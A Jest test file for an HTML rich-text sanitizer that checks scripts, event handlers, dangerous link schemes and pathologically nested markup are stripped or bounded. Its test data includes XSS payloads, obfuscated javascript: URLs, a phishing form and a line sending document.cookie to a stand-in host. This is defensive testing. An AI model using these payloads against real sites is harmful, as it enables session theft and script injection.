import { Parser } from 'htmlparser2';
import {
  MAX_RICH_TEXT_BYTES,
  MAX_RICH_TEXT_DEPTH,
  MAX_RICH_TEXT_ELEMENTS,
  MAX_RICH_TEXT_PIECES,
  plainTextToHtml,
  previewOf,
  sanitizeRichText,
  TEXT_PIECES_PER_ELEMENT,
  TooMuchMarkupError,
} from '../../libs/rich-text/rich-text.js';

const SAFE_LINK_ATTRIBUTES = 'rel="noopener noreferrer nofollow" target="_blank"';

describe('sanitizeRichText: what must never reach a reader', () => {
  test('script elements go together with their content', () => {
    const { html, text } = sanitizeRichText('<p>Hello</p><script>fetch("https://evil.example/?c=" + document.cookie)</script><SCRIPT>alert(1)</SCRIPT>');

    expect(html).toBe('<p>Hello</p>');
    expect(text).toBe('Hello');
  });

  test('event-handler attributes are removed, the elements and their text stay', () => {
    const { html } = sanitizeRichText('<p onclick="steal()">Hi</p><b onmouseover="steal()" ONFOCUS=steal()>bold</b><div onload=x()>d</div>');

    expect(html).toBe('<p>Hi</p><b>bold</b><div>d</div>');
    expect(html).not.toMatch(/on\w+=|steal/i);
  });

  test('<img src=x onerror=...> disappears entirely (no images: they would be tracking pixels)', () => {
    const { html, text } = sanitizeRichText('<p>Before<img src=x onerror=alert(1)><img src="https://tracker.example/pixel.gif?u=42" alt="pixel"></p>After');

    expect(html).toBe('<p>Before</p>After');
    expect(html).not.toMatch(/img|onerror|tracker|alert/i);
    expect(text).not.toMatch(/pixel|tracker/);
  });

  test('<svg><script> and <math> foreign content go with everything inside them', () => {
    const { html, text } = sanitizeRichText(
      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>svg text</text></a><animate onbegin=alert(3)></svg>' +
        '<math><mtext><script>alert(4)</script></mtext></math><p>After</p>',
    );

    expect(html).toBe('<p>After</p>');
    expect(text).toBe('After');
  });

  test('<style> blocks go with their CSS; style, class and id attributes are stripped', () => {
    const { html, text } = sanitizeRichText(
      '<style>body { display: none } .x { background: url(https://tracker.example/) }</style>' +
        '<p style="position:fixed;top:0" class="banner" id="login">Visible</p>',
    );

    expect(html).toBe('<p>Visible</p>');
    expect(text).toBe('Visible');
  });

  test('iframes, objects, embeds, forms, buttons, textareas, noscript and templates leave none of their content behind', () => {
    const { html, text } = sanitizeRichText(
      '<iframe src="https://evil.example"><p>iframe fallback</p></iframe>' +
        '<object data="x.swf"><p>object fallback</p></object><embed src="x.swf">' +
        '<form action="https://evil.example/login"><input name="password" value="hunter2"><button>Log in</button></form>' +
        '<textarea>typed text</textarea><select><option>choice</option></select>' +
        '<noscript><p>noscript text</p></noscript><template><p>template text</p></template>' +
        '<p>Kept</p>',
    );

    expect(html).toBe('<p>Kept</p>');
    expect(text).toBe('Kept');
  });

  test('a document head (title, meta refresh, base) contributes nothing', () => {
    const { html } = sanitizeRichText(
      '<html><head><title>Phish</title><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"></head>' +
        '<body><p>Body</p></body></html>',
    );

    expect(html).toBe('<p>Body</p>');
  });

  test('unknown but harmless wrappers are unwrapped and their text kept', () => {
    expect(sanitizeRichText('<font color="red">red</font> <center>middle</center> <section>part</section>').html).toBe('red middle part');
  });

  test('invisible control characters (NUL included, which PostgreSQL refuses) are removed', () => {
    expect(sanitizeRichText('<p>a\u0000b\u0007c\u007f</p>').html).toBe('<p>abc</p>');
  });

  test('empty input gives empty output', () => {
    expect(sanitizeRichText('')).toEqual({ html: '', text: '' });
    expect(sanitizeRichText('<script>only()</script>')).toEqual({ html: '', text: '' });
  });

  test('deeply nested markup neither throws nor loses its text', () => {
    const deep = `${'<b>'.repeat(5000)}deep inside${'</b>'.repeat(5000)}`;

    const { html, text } = sanitizeRichText(deep);

    expect(text).toBe('deep inside');
    expect(html.match(/<b>/g)?.length).toBeLessThanOrEqual(64);
  });

  test('MAX_RICH_TEXT_BYTES is 256 KiB', () => {
    expect(MAX_RICH_TEXT_BYTES).toBe(262_144);
  });
});

/** A body of MAX_RICH_TEXT_BYTES made of `unit` repeated (after `prefix`), then `suffix`. */
function atSizeLimit(unit: string, { prefix = '', suffix = '' } = {}): string {
  const room = MAX_RICH_TEXT_BYTES - Buffer.byteLength(prefix + suffix);
  return prefix + unit.repeat(Math.floor(room / Buffer.byteLength(unit))) + suffix;
}

/** The deepest nesting and the number of elements of `html` as the parser reads it. */
function shapeOf(html: string): { deepest: number; elements: number } {
  let depth = 0;
  const shape = { deepest: 0, elements: 0 };
  new Parser({
    onopentag() {
      shape.elements++;
      shape.deepest = Math.max(shape.deepest, ++depth);
    },
    onclosetag() {
      depth--;
    },
  }).end(html);
  return shape;
}

const PAYLOAD = '<img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)" onclick="alert(4)">payload</a>';

describe('sanitizeRichText: pathological markup costs bounded work and still comes out safe', () => {
  // Each of these took from a fifth of a second to seconds before the markup was bounded ahead of parsing
  // ('<b>' × 87,000: 1.7 s). The time they take now is measured by the bench (case `sanitize`), not asserted here.
  const PATHOLOGICAL: Array<[string, string]> = [
    ["'<b>' × 87,000", '<b>'.repeat(87_000)],
    ['<div> nested to the size limit', atSizeLimit('<div>')],
    ['mixed nesting', atSizeLimit('<b><i><u><span><div><blockquote><ul><li><table><tr><td>')],
    ['unclosed unknown tags', atSizeLimit('<x>')],
    ['nested svg', atSizeLimit('<svg>')],
    ['deep and closed again', `${'<b>'.repeat(40_000)}deep${'</b>'.repeat(40_000)}`],
    ['end tags hidden in comments', atSizeLimit('<b><!--</b>-->')],
    ['many attributes on one tag', `<p ${Array.from({ length: 10_000 }, (_, i) => `a${i}="x" on${i}=alert(${i})`).join(' ')}>text</p>`],
    ['event handlers on every tag', atSizeLimit('<b onclick=alert(1) onmouseover="alert(2)" style="x">')],
    ['empty links', atSizeLimit('<a>')],
    ['sibling paragraphs', atSizeLimit('<p>x</p>')],
    ['a table of many cells', atSizeLimit('<tr><td>1</td><td>2</td></tr>', { prefix: '<table>', suffix: '</table>' })],
    ['end tags that open paragraphs and breaks', atSizeLimit('</p></br>')],
    ['a raw-text element past the depth limit', `${'<b>'.repeat(100)}<textarea>${'<i>'.repeat(20_000)}</textarea>after`],
    ['stray <, each a piece of text of its own', atSizeLimit('<')],
    ['character references', atSizeLimit('&lt;')],
  ];

  test.each(PATHOLOGICAL)('%s: no deeper than the limit, no more elements than allowed, no script or handler', (_, input) => {
    const { html } = sanitizeRichText(input + PAYLOAD);

    const shape = shapeOf(html);
    expect(shape.deepest).toBeLessThanOrEqual(MAX_RICH_TEXT_DEPTH);
    expect(shape.elements).toBeLessThanOrEqual(MAX_RICH_TEXT_ELEMENTS);
    expect(html).not.toMatch(/<script|<img|\son\w+=|javascript:|alert\(/i);
  });

  test('text nested beyond the depth limit is kept, without the tags beyond it', () => {
    const { html, text } = sanitizeRichText(`${'<b>'.repeat(87_000)}Hello <i>there</i>${PAYLOAD}`);

    expect(text).toBe('Hello there payload');
    expect(shapeOf(html).deepest).toBe(MAX_RICH_TEXT_DEPTH);
  });

  test('past MAX_RICH_TEXT_ELEMENTS elements, formatting goes and the text stays', () => {
    const { html, text } = sanitizeRichText('<p>x</p>'.repeat(MAX_RICH_TEXT_ELEMENTS + 10));

    expect(shapeOf(html).elements).toBe(MAX_RICH_TEXT_ELEMENTS);
    expect(text.replace(/\s/g, '')).toBe('x'.repeat(MAX_RICH_TEXT_ELEMENTS + 10));
  });

  test("with tooMuchMarkup: 'refuse', more markup than MAX_RICH_TEXT_ELEMENTS allows throws TooMuchMarkupError; as much does not", () => {
    // An element and a piece of text each: 1 + 1/TEXT_PIECES_PER_ELEMENT apiece.
    const most = Math.floor(MAX_RICH_TEXT_ELEMENTS / (1 + 1 / TEXT_PIECES_PER_ELEMENT));
    expect(sanitizeRichText('<b>x</b>'.repeat(most), { tooMuchMarkup: 'refuse' }).text).toBe('x'.repeat(most));
    expect(() => sanitizeRichText('<b>x</b>'.repeat(most + 1), { tooMuchMarkup: 'refuse' })).toThrow(TooMuchMarkupError);
    expect(sanitizeRichText('<br>'.repeat(MAX_RICH_TEXT_ELEMENTS - 1) + 'x', { tooMuchMarkup: 'refuse' }).text).toBe('x');
    expect(() => sanitizeRichText(atSizeLimit('<a>'), { tooMuchMarkup: 'refuse' })).toThrow(
      `has too much markup: at most ${MAX_RICH_TEXT_ELEMENTS} elements (tags), where ${TEXT_PIECES_PER_ELEMENT} pieces of text`,
    );
  });

  test(`more than MAX_RICH_TEXT_PIECES pieces of text are refused, or cut short; what the editor writes is not`, () => {
    const strayLessThans = atSizeLimit('<');
    expect(() => sanitizeRichText(strayLessThans, { tooMuchMarkup: 'refuse' })).toThrow(TooMuchMarkupError);
    expect(sanitizeRichText(strayLessThans).text).toBe('<'.repeat(MAX_RICH_TEXT_PIECES));

    // The editor escapes < > & as character references, each a piece of text: even code full of them stays within.
    const line = 'if (a &lt; b &amp;&amp; c &gt; d) x = y;\n';
    const code = atSizeLimit(line, { prefix: '<pre>', suffix: '</pre>' });
    const { text } = sanitizeRichText(code, { tooMuchMarkup: 'refuse' });
    expect(text.split('\n')).toHaveLength(Math.floor((MAX_RICH_TEXT_BYTES - 11) / line.length));
    expect(text).toMatch(/^if \(a < b && c > d\) x = y;\n/);
  });

  test("depth alone is flattened, never refused, even with tooMuchMarkup: 'refuse'", () => {
    expect(sanitizeRichText(`${'<div>'.repeat(5000)}deep`, { tooMuchMarkup: 'refuse' }).text).toBe('deep');
  });
});

describe('sanitizeRichText: links', () => {
  const DANGEROUS_HREFS: Array<[string, string]> = [
    ['plain javascript:', 'javascript:alert(document.cookie)'],
    ['mixed-case scheme', 'JaVaScRiPt:alert(1)'],
    ['hex entity inside the scheme', 'jav&#x61;script:alert(1)'],
    ['decimal entities for the whole scheme', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'],
    ['zero-padded entity', '&#0000106avascript:alert(1)'],
    ['named entity for the colon', 'javascript&colon;alert(1)'],
    ['tab inside the scheme', 'java\tscript:alert(1)'],
    ['encoded tab inside the scheme', 'java&#x09;script:alert(1)'],
    ['encoded newline inside the scheme', 'java&#10;script:alert(1)'],
    ['leading spaces and control characters', ' \u0001 javascript:alert(1)'],
    ['data: URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['vbscript:', 'vbscript:msgbox(1)'],
    ['protocol-relative URL', '//evil.example/login'],
    ['relative path into the app', '/api/admin/delete-everything'],
    ['file: URL', 'file:///etc/passwd'],
  ];

  test.each(DANGEROUS_HREFS)('%s loses its href, the link text stays', (_, href) => {
    const { html, text } = sanitizeRichText(`<p><a href="${href}">click me</a></p>`);

    expect(html).toBe(`<p><a ${SAFE_LINK_ATTRIBUTES}>click me</a></p>`);
    expect(text).toBe('click me');
  });

  test('http(s) and mailto links stay, opening in a new tab without opener or referrer, whatever the author asked', () => {
    const { html } = sanitizeRichText(
      '<a href="https://example.com/a?b=1&c=2" rel="opener" target="_self" onclick="x()" style="color:red">site</a> ' +
        '<a href="http://example.org">old site</a> <a href="mailto:care@clinic.example">write to us</a>',
    );

    expect(html).toBe(
      `<a href="https://example.com/a?b=1&amp;c=2" ${SAFE_LINK_ATTRIBUTES}>site</a> ` +
        `<a href="http://example.org" ${SAFE_LINK_ATTRIBUTES}>old site</a> ` +
        `<a href="mailto:care@clinic.example" ${SAFE_LINK_ATTRIBUTES}>write to us</a>`,
    );
  });

  test('an href cannot break out of its attribute', () => {
    const { html } = sanitizeRichText("<a href='https://example.com/\"><script>alert(1)</script>'>x</a>");

    expect(html).not.toContain('<script');
    expect(html).toContain('href="https://example.com/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"');
  });
});

describe('sanitizeRichText: the formatting a WYSIWYG editor produces survives', () => {
  test('every allowed element comes through unchanged', () => {
    const input =
      '<h1>Title</h1><h2>Sub</h2><h3>Subsub</h3><h4>Minor</h4>' +
      '<p><b>b</b> <strong>strong</strong> <i>i</i> <em>em</em> <u>u</u> <s>s</s> <strike>strike</strike> <span>span</span> <code>code</code></p>' +
      '<blockquote>quoted</blockquote><ul><li>one</li></ul><ol><li>first</li></ol>' +
      '<pre>  indented\n  code</pre><div>div<br />line</div><hr />' +
      '<table><thead><tr><th>H1</th><th>H2</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>';

    expect(sanitizeRichText(input).html).toBe(input);
  });

  test('table cells keep sane colspan/rowspan and nothing else', () => {
    const { html } = sanitizeRichText(
      '<table style="width:100%" class="t" border="1"><tr><td colspan="2" width="50" bgcolor="red">wide</td><td rowspan="100000">tall</td><td colspan="x">bad</td></tr></table>',
    );

    expect(html).toBe('<table><tr><td colspan="2">wide</td><td>tall</td><td>bad</td></tr></table>');
  });
});

describe('sanitizeRichText: plain-text rendering', () => {
  test('paragraphs are separated by a blank line, <br> by a newline; the result is trimmed', () => {
    expect(sanitizeRichText('<p>  Dear Ada,</p><p>Your appointment<br>is confirmed.</p>\n\n').text).toBe('Dear Ada,\n\nYour appointment\nis confirmed.');
  });

  test('lists are rendered as items on their own lines', () => {
    expect(sanitizeRichText('<p>Bring:</p><ul><li>ID card</li><li>Insurance card</li></ul><ol><li>Check in</li><li>Wait</li></ol>').text).toBe(
      'Bring:\n\n- ID card\n- Insurance card\n\n 1. Check in\n 2. Wait',
    );
  });

  test('links show their URL after the label, once when the label is the URL, mailto without its scheme', () => {
    const { text } = sanitizeRichText(
      '<p>Read <a href="https://clinic.example/prep">the preparation notes</a>, or <a href="https://clinic.example">https://clinic.example</a>, ' +
        'or <a href="mailto:care@clinic.example">mail us</a>.</p>',
    );

    expect(text).toBe('Read the preparation notes [https://clinic.example/prep], or https://clinic.example, or mail us [care@clinic.example].');
  });

  test('headings keep their case, quotes are marked, entities are decoded, no image output', () => {
    const { text } = sanitizeRichText('<h2>Results</h2><blockquote>All clear</blockquote><p>5 &lt; 7 &amp; &quot;fine&quot;<img src="x.png" alt="chart"></p>');

    expect(text).toBe('Results\n\n> All clear\n\n5 < 7 & "fine"');
  });

  test('runs of empty paragraphs collapse to one blank line, and long lines are not wrapped', () => {
    const long = 'word '.repeat(40).trim();
    const { text } = sanitizeRichText(`<p>a</p><p>&nbsp;</p><p>&nbsp;</p><br><br><br><div></div><p>${long}</p>`);

    expect(text).toBe(`a\n\n${long}`);
  });
});

describe('plainTextToHtml', () => {
  test('escapes every character that means something in HTML', () => {
    expect(plainTextToHtml(`<script>alert("x")</script> & 'y'`)).toBe('<p>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;y&#39;</p>');
  });

  test('blank lines separate paragraphs, single newlines become <br />, whatever the line endings', () => {
    expect(plainTextToHtml('Hi Bob,\r\nline two\n\n\nSecond paragraph\r\n \t \r\nThird\n')).toBe(
      '<p>Hi Bob,<br />line two</p><p>Second paragraph</p><p>Third</p>',
    );
  });

  test('nothing but whitespace gives nothing', () => {
    expect(plainTextToHtml('')).toBe('');
    expect(plainTextToHtml('\n \n\t\n')).toBe('');
  });

  test('the author’s characters come back unchanged in the text rendering', () => {
    const text = 'if a < b && c > d then "ok"\nnext line\n\n<b>not bold</b>';

    const rendered = sanitizeRichText(plainTextToHtml(text));

    expect(rendered.text).toBe(text);
    expect(rendered.html).not.toContain('<b>');
  });
});

describe('previewOf', () => {
  test('collapses whitespace (newlines included) and trims', () => {
    expect(previewOf('  Hello\n\n   world\t!\u00a0 ')).toBe('Hello world !');
  });

  test('leaves text up to maxChars alone and cuts longer text with an ellipsis', () => {
    expect(previewOf('abcde', 5)).toBe('abcde');
    expect(previewOf('abcdef', 5)).toBe('abcde…');
    expect(previewOf('x'.repeat(200))).toBe(`${'x'.repeat(140)}…`);
  });

  test('does not leave a space before the ellipsis', () => {
    expect(previewOf('Hello world', 6)).toBe('Hello…');
  });

  test('counts emoji as one character each and never splits a surrogate pair', () => {
    const text = 'Hi 😀😀😀 there';

    const preview = previewOf(text, 5);

    expect(preview).toBe('Hi 😀😀…');
    expect(preview).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    // 6 UTF-16 units would be 3 emoji, 5 units half of the third: code points are what counts.
    expect(previewOf('😀'.repeat(10), 3)).toBe('😀😀😀…');
    expect(previewOf('a😀😀😀', 2)).toBe('a😀…');
  });
});
